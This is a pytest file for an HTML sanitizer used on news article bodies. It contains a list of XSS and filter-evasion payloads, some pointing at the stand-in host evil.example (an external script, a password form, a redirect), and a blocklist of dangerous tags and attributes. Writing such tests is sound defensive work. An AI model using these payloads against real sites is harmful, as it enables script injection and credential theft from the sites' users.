import pytest

from articles.html import clean_body


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        '<img src=x onerror="alert(1)">',
        '<p onmouseover="alert(1)">text</p>',
        '<a href="javascript:alert(1)">link</a>',
        '<a href="JaVaScRiPt:alert(1)">link</a>',
        '<a href="jav&#x09;ascript:alert(1)">link</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        '<a href="vbscript:msgbox(1)">x</a>',
        '<svg onload="alert(1)"><circle r="1"/></svg>',
        '<iframe src="https://evil.example"></iframe>',
        '<object data="x.swf"></object><embed src="x.swf">',
        '<p style="background:url(javascript:alert(1))">styled</p>',
        '<div style="width: expression(alert(1))">ie</div>',
        "<style>body{display:none}</style>",
        '<form action="https://evil.example"><input name="password"></form>',
        '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
        "<scr<script>ipt>alert(1)</script>",
        "<<img src=x onerror=alert(1)//>",
        '<p>unclosed <b onclick="x()">bold',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<base href="https://evil.example/">',
        "<!--<img src=x onerror=alert(1)>-->",
    ],
)
def test_hostile_markup_is_neutralised(hostile):
    cleaned = clean_body(hostile).lower()

    for danger in (
        "<script",
        "javascript:",
        "vbscript:",
        "data:",
        "onerror",
        "onload",
        "onclick",
        "onmouseover",
        "<iframe",
        "<object",
        "<embed",
        "<svg",
        "<style",
        "style=",
        "<form",
        "<input",
        "<meta",
        "<base",
        "expression(",
        "<img",
    ):
        assert danger not in cleaned


def test_news_markup_survives():
    html = (
        "<h2>Talks resume</h2><p>It was <strong>constructive</strong>, said "
        '<a href="https://example.org/statement">the ministry</a>.</p>'
        "<ul><li>one</li></ul><ol><li>two</li></ol>"
        "<blockquote><p>Progress depends on respect.</p></blockquote>"
        "<h3>Next</h3><h4>Later</h4><p><em>Also</em> <s>this</s> H<sub>2</sub>O</p>"
    )

    cleaned = clean_body(html)

    assert cleaned == html.replace(
        'href="https://example.org/statement"',
        'href="https://example.org/statement" rel="noopener noreferrer"',
    )


def test_pasted_h1_becomes_a_subheading():
    assert clean_body("<h1>Title</h1><p>x</p>") == "<h2>Title</h2><p>x</p>"


def test_empty_paragraphs_left_by_the_editor_are_dropped():
    assert clean_body("<p>one</p><p>&nbsp;</p><p> <br> </p><p>two</p>") == (
        "<p>one</p><p>two</p>"
    )


def test_empty_input():
    assert clean_body("") == ""
